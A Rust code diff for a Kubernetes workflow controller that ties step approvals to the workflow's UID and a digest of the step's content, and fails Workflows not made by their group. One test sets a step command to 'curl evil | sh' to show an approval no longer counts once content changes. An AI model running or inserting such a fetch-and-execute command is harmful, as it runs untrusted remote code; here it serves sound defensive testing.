@@ -10,7 +10,7 @@ use k8s_openapi::jiff::Timestamp;
 use kube::ResourceExt;
 use workflow_model::ApprovalRequest;
 
-use super::pod::build_pod;
+use super::pod::{approval_content, build_pod};
 use super::refusal::PodRefusal;
 use super::step::{
     Attempt, StepDecision, StepJudge, StepMove, StepView, apply_move, decide_step, refused_move,
@@ -90,6 +90,34 @@ pub fn plugin_choice(workflow: &Workflow) -> PluginChoice {
     }) {
         Some(digest) => PluginChoice::Pinned(digest),
         None => PluginChoice::Current,
+    }
+}
+
+/// The plan of a Workflow that names a group as its controller but carries no signature of
+/// that group for what it is now: it was made by someone else, or changed after its group
+/// made it. It fails, naming why; none of its steps runs, and its group does not count it.
+pub fn plan_not_made_by_group(workflow: &Workflow, now: Timestamp) -> WorkflowPlan {
+    let old = workflow.status.clone().unwrap_or_default();
+    if old.phase.is_some_and(|p| p.is_finished()) {
+        return WorkflowPlan {
+            status: old,
+            ..WorkflowPlan::default()
+        };
+    }
+    let message = "this Workflow names a WorkflowGroup as its controller, but that group did not make it as it is now (it was made by someone else, or its spec was changed since): none of its steps runs".to_string();
+    let mut status = old;
+    status.observed_generation = workflow.metadata.generation;
+    finish(
+        &mut status,
+        Phase::Failed,
+        reason::NOT_MADE_BY_GROUP,
+        &message,
+        now,
+    );
+    WorkflowPlan {
+        status,
+        events: vec![Transition::warning(reason::NOT_MADE_BY_GROUP, message)],
+        ..WorkflowPlan::default()
     }
 }
 
@@ -307,7 +335,14 @@ pub fn plan_workflow(
         .filter_map(|name| by_name.get(name.as_str()))
         .fold(Decided::default(), |mut decided, step| {
             let deps = graph.dependencies(&step.name);
-            let decision = plan_step(workflow, step, deps, &decided, observed, judge, &ctx);
+            let inputs = Inputs {
+                workflow,
+                observed,
+                judge,
+                defaults,
+                ctx: &ctx,
+            };
+            let decision = plan_step(&inputs, step, deps, &decided);
             decided.push(&step.name, decision);
             decided
         });
@@ -337,16 +372,30 @@ impl<'a> Decided<'a> {
     }
 }
 
+/// What every step's decision reads: the Workflow, what was observed of it, its plugin, the
+/// operator's step defaults and the plugin's view of the group.
+struct Inputs<'a> {
+    workflow: &'a Workflow,
+    observed: &'a Observed,
+    judge: &'a dyn StepJudge,
+    defaults: &'a StepDefaults,
+    ctx: &'a plugin::GroupContext,
+}
+
 /// The decision about one step, given the steps before it in dependency order.
 fn plan_step(
-    workflow: &Workflow,
+    inputs: &Inputs<'_>,
     step: &Step,
     deps: &[String],
     decided: &Decided<'_>,
-    observed: &Observed,
-    judge: &dyn StepJudge,
-    ctx: &plugin::GroupContext,
 ) -> StepDecision {
+    let Inputs {
+        workflow,
+        observed,
+        judge,
+        ctx,
+        ..
+    } = *inputs;
     let attempts = &observed.attempts;
     let old = workflow.status.as_ref();
     let name = &step.name;
@@ -376,9 +425,7 @@ fn plan_step(
     let deps_completed_at = deps_completed_at(deps, decided);
     let mut detail = detail;
     let step_move = match decide_step(view, judge, ctx) {
-        StepMove::NeedsApproval(request) => {
-            approval_move(name, &request, &mut detail, observed, ctx.now)
-        }
+        StepMove::NeedsApproval(request) => approval_move(inputs, step, &request, &mut detail),
         step_move => step_move,
     };
     let step_move = refused_move(step_move, name, observed.refused.get(name));
@@ -400,7 +447,8 @@ fn plan_step(
         && let Some(record) = decision.detail.approval.as_mut()
     {
         let given = observed.approvals.get(name).map_or(&[][..], Vec::as_slice);
-        record.approved_by = approval::approved_by(record, given);
+        let uid = workflow.metadata.uid.as_deref().unwrap_or_default();
+        record.approved_by = approval::approved_by(record, uid, given);
     }
     let now = Timestamp::from_second(ctx.now).unwrap_or(Timestamp::UNIX_EPOCH);
     stamp(&mut decision, latest.as_ref(), recorded_start, now);
@@ -416,22 +464,28 @@ fn deps_completed_at(deps: &[String], decided: &Decided<'_>) -> Option<Timestamp
         .and_then(|seen| seen.into_iter().max())
 }
 
-/// The move of step `name`, whose gate asks for approval (`request`), given the Approvals
+/// The move of `step`, whose gate asks for approval (`request`), given the Approvals
 /// observed: start, fail (rejected, or not approved in time) or wait. `detail` records where
-/// the approval stands.
+/// the approval stands and what it approves.
 fn approval_move(
-    name: &str,
+    inputs: &Inputs<'_>,
+    step: &Step,
     request: &ApprovalRequest,
     detail: &mut StepDetail,
-    observed: &Observed,
-    now: i64,
 ) -> StepMove {
+    let (name, now, observed) = (&step.name, inputs.ctx.now, inputs.observed);
     let since = detail
         .approval
         .as_ref()
         .map_or(now, |a| a.since.0.as_second());
     let given = observed.approvals.get(name).map_or(&[][..], Vec::as_slice);
-    match approval::judge(name, request, since, given, now) {
+    let (digest, content) = approval_content(inputs.workflow, step, inputs.defaults);
+    let asked = approval::Asked {
+        workflow_uid: inputs.workflow.metadata.uid.as_deref().unwrap_or_default(),
+        digest: &digest,
+        content: &content,
+    };
+    match approval::judge(name, request, asked, since, given, now) {
         Judged::Start(record) => {
             detail.approval = Some(record);
             StepMove::Start
@@ -1424,6 +1478,10 @@ mod tests {
             .clone()
             .expect("recorded");
         assert_eq!(waiting.since, Time(now()));
+        // What an approval approves: the digest of what the step runs, and it in one line.
+        assert!(waiting.digest.starts_with("sha256:"), "{waiting:?}");
+        assert!(waiting.content.starts_with("`"), "{waiting:?}");
+        assert!(message.contains(&waiting.content), "{message}");
 
         // Alice approves: it starts, and the status says by whom; the wait began when it did.
         let mut wf = wf;
@@ -1438,18 +1496,39 @@ mod tests {
                     decision: ApprovalDecision::Approve,
                     comment: String::new(),
                     created: now().as_second(),
+                    workflow_uid: wf.metadata.uid.clone().unwrap_or_default(),
+                    digest: waiting.digest.clone(),
                 }],
             )]
             .into(),
             ..Observed::default()
         };
         let later = Timestamp::from_second(now().as_second() + 30).expect("time");
+        // The same approval of a Workflow whose step now runs something else counts for
+        // nothing: the step waits again for what it runs now.
+        let mut changed = wf.clone();
+        changed.spec.steps[0].command = "curl evil | sh".into();
+        let plan = plan_workflow(
+            &changed,
+            &observed,
+            &judge,
+            &plugin_ref(),
+            &StepDefaults::image("busybox:1.36"),
+            later,
+        );
+        assert!(plan.create.is_empty());
+        let (_, why, message) = condition(&plan);
+        assert_eq!(why, reason::WAITING_FOR_APPROVAL);
+        assert!(
+            message.contains("not counted, given for other content"),
+            "{message}"
+        );
         let plan = plan_workflow(
             &wf,
             &observed,
             &judge,
             &plugin_ref(),
-            &StepDefaults::image("x"),
+            &StepDefaults::image("busybox:1.36"),
             later,
         );
         assert_eq!(starts(&plan), [("run".to_string(), 1)]);
